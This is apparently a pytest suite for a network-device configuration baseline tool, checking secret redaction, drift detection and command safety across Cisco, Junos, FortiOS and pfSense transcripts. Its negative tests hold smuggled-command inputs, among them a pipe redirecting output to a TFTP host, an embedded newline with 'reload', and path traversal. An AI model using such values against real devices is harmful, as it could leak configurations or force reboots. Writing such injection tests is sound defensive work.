"""Families of network devices on transcripts made from the makers' documented answers."""

import io
from collections.abc import Callable
from pathlib import Path

import pytest

from quarterdeck.baselines import rules
from quarterdeck.baselines.comparing import file_line, posture_lines
from quarterdeck.baselines.device_words import CONFIGURATION, FAMILIES, IMAGE, VERSION
from quarterdeck.baselines.devices import (
    CONFIGURATION_PATH,
    ROOT,
    DeviceFacts,
    device_command,
    device_lines,
    family_sha256,
    image_arguments,
    read_device,
)
from quarterdeck.baselines.diff import compare
from quarterdeck.baselines.manifest import Reader, write
from quarterdeck.baselines.receiver import BadOutput
from quarterdeck.inventory.api import Platform

DATA = Path(__file__).parent.parent / "data" / "devices"
SECRETS = (
    "$9$nhEm", "$1$SpMm", "n0tPubl1c", "13061E01", "0822455D", "094F471A", "$5$KQ0b", "8d3a9b0c", "fewhg123",
    "$6$Zy3w", "$9$Zqji", "$9$LqBx", "SH2nlR5k", "8Vg2h1a9", "MIIFHDBO", "$2y$10$", "correct horse", "LS0tLS1C",
    "5baa61e4",
)  # fmt: skip


def mark(secret: str) -> str:
    """A mark for tests: length and last letter, which tells nothing that matters here."""
    return f"{len(secret):x}{ord(secret[-1]):x}"


def answer(platform: str, step: str) -> bytes:
    return (DATA / f"{platform}.{step}").read_bytes()


def read(platform: str, change: Callable[[bytes], bytes] = bytes) -> DeviceFacts:
    image = answer(platform, IMAGE) if IMAGE in FAMILIES[platform].commands else None
    return read_device(platform, answer(platform, VERSION), change(answer(platform, CONFIGURATION)), image, mark)


def test_every_device_platform_has_its_family_and_no_two_share_a_hash() -> None:
    assert set(FAMILIES) == {one.value for one in Platform if one.is_device}
    assert len({family_sha256(name) for name in FAMILIES}) == len(FAMILIES)


VERSIONS = {
    "cisco_ios": "15.2(7)E7", "cisco_nxos": "10.2(6)", "junos": "22.4R3-S2.11",
    "fortios": "FortiGate-60F v7.2.8,build1639,240313 (GA.M)", "pfsense": "2.7.2-RELEASE", "opnsense": "24.7.9_1",
    "other_device": "YA.16.10.0025",
}  # fmt: skip


@pytest.mark.parametrize("platform", FAMILIES)
def test_version_and_image_are_facts_and_no_secret_is_left(platform: str) -> None:
    found = read(platform)
    assert found.firmware["version"] == VERSIONS[platform]
    assert bool(found.image) == (IMAGE in FAMILIES[platform].commands)
    assert not [one for one in SECRETS if one in found.configuration], found.configuration
    assert "<withheld" in found.configuration
    assert "hostname" in found.configuration or "host-name" in found.configuration


MOVED = {
    "cisco_ios": [("18:22:07 UTC", "09:01:00 UTC"), ("1873 bytes", "1999 bytes"), ("36028797", "36028811")],
    "cisco_nxos": [("!Time: Fri Nov 27", "!Time: Sat Nov 28")],
    "fortios": [("user=maint", "user=other"), ("1173922861742111", "42"), ("SH2nlR5k", "ZZnewZZ"),
                ("MIIFHDB", "MIIFAAA")],
    "pfsense": [("1795881600", "1795890000")],
    "opnsense": [("1795881600", "1795890000")],
}  # fmt: skip


@pytest.mark.parametrize("platform", MOVED)
def test_what_moves_by_itself_is_no_change(platform: str) -> None:
    def moved(raw: bytes) -> bytes:
        for old, new in MOVED[platform]:
            assert old.encode() in raw
            raw = raw.replace(old.encode(), new.encode())
        return raw

    assert read(platform, moved).configuration == read(platform).configuration


@pytest.mark.parametrize(
    ("platform", "old", "new"),
    [
        ("cisco_ios", "description uplink", "description uplinc"),
        ("cisco_ios", "n0tPubl1c", "public"),
        ("cisco_ios", "094F471A1A0A", "094F471A1A0ABB"),
        ("junos", "192.0.2.1/24", "192.0.2.1/16"),
        ("fortios", "set action accept", "set action deny"),
        ("pfsense", "correct horse battery", "correct horse batterY"),
    ],
)
def test_a_change_is_one_line_also_of_a_secret(platform: str, old: str, new: str) -> None:
    before, after = read(platform), read(platform, lambda raw: raw.replace(old.encode(), new.encode()))
    (change,) = compare(Reader(manifest(before)), Reader(manifest(after)))
    assert (change.path, change.facts[0]) == (CONFIGURATION_PATH, "sha256digest")
    assert file_line(change, rules.Scope(), {}).drift_class == "unexplained"
    assert new not in after.configuration or "secret" not in old


def manifest(found: DeviceFacts) -> io.BytesIO:
    target = io.BytesIO()
    totals = write([ROOT], device_lines(found.configuration), target)
    assert (totals.entries, totals.hashed, totals.blind_roots) == (2, 1, 0)
    target.seek(0)
    return target


def test_new_firmware_is_one_line_for_each_fact() -> None:
    found = {"firmware": {"value": read("cisco_ios").firmware}}
    newer = {"firmware": {"value": read("cisco_ios").firmware | {"version": "15.2(7)E9"}}}
    (line,) = posture_lines(found, newer, rules.Scope())
    assert line.path == b"firmware:version"


def test_the_running_image_is_asked_by_the_name_that_the_device_tells() -> None:
    told = answer("cisco_ios", VERSION).decode()
    asked = image_arguments("cisco_ios", told)
    assert asked is not None
    assert device_command("cisco_ios", asked).startswith("verify /sha512 flash:/c2960x-universalk9-mz.152-7.E7/")
    assert image_arguments("cisco_ios", told.replace("flash:/", "flash:/a b|redirect ")) is None
    assert image_arguments("junos", "") is None
    assert read("cisco_ios").image == {"sha512": "5d" * 64}


@pytest.mark.parametrize(
    ("platform", "arguments"),
    [
        ("cisco_ios", ["device", "reload"]),
        ("cisco_ios", ["device"]),
        ("cisco_ios", ["device", "version", "flash:/x"]),
        ("cisco_ios", ["device", "image"]),
        ("cisco_ios", ["device", "image", "flash:/a | redirect tftp://192.0.2.9/x"]),
        ("cisco_ios", ["device", "image", "flash:/../x"]),
        ("cisco_ios", ["device", "image", "flash:/a\nreload"]),
        ("pfsense", ["device", "image", "flash:/x"]),
        ("junos", ["manifest", "/etc"]),
        ("unix", ["device", "version"]),
    ],
)
def test_only_registered_commands_are_made(platform: str, arguments: list[str]) -> None:
    """Attack: nothing that a person or a device wrote becomes a command."""
    with pytest.raises(ValueError, match=r"registered|image"):
        device_command(platform, arguments)


BAD = {
    "a command that is not known": (b"                ^\r\n% Invalid input detected at '^' marker.\r\n", "refused"),
    "no right": (b"% Authorization failed.\n", "refused"),
    "pages": (answer("cisco_ios", CONFIGURATION)[:300] + b"\r\n --More-- ", "pages"),
    "a cut": (answer("cisco_ios", CONFIGURATION)[:-6], "cut off"),
    "nothing": (b"", "cut off"),
    "no text": (b"version 15\0\nend\n", "no text"),
}


@pytest.mark.parametrize("name", BAD)
def test_an_answer_that_is_no_configuration_is_refused_with_the_reason(name: str) -> None:
    raw, words = BAD[name]
    with pytest.raises(BadOutput, match=words):
        read("cisco_ios", lambda _: raw)


def test_a_device_of_another_family_is_told() -> None:
    with pytest.raises(BadOutput, match="platform of the connection"):
        read_device("junos", answer("cisco_ios", VERSION), answer("junos", CONFIGURATION), None, mark)


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16"])
def test_line_ends_marks_and_terminal_codes_make_no_difference(codec: str) -> None:
    def printed(raw: bytes) -> bytes:
        return ("\x1b[7m\x1b[0m" + raw.decode().replace("\n", "\r\n")).encode(codec)

    assert read("cisco_ios", printed).configuration == read("cisco_ios").configuration


def test_hostile_text_stays_text() -> None:
    found = read("cisco_ios", lambda raw: raw.replace(b"uplink", b"\xff<script>\xe2\x80\xae " + b"a" * 5000))
    assert "<script>" in found.configuration
    found.configuration.encode()


@pytest.mark.parametrize("platform", FAMILIES)
def test_an_enormous_hostile_answer_takes_no_endless_time(platform: str) -> None:
    family = FAMILIES[platform]
    line = b"set password password password secret secret key key snmp-server user auth md5 priv aes <password <tls "
    raw = (line * 20 + b"\n") * 300
    end = {"cisco_ios": b"end\n", "fortios": b"end\n", "pfsense": b"</pfsense>\n", "opnsense": b"</opnsense>\n"}
    found = read_device(platform, answer(platform, VERSION), raw + end.get(platform, b""), image_of(platform), mark)
    assert found.firmware
    assert family.secrets


def image_of(platform: str) -> bytes | None:
    return answer(platform, IMAGE) if IMAGE in FAMILIES[platform].commands else None
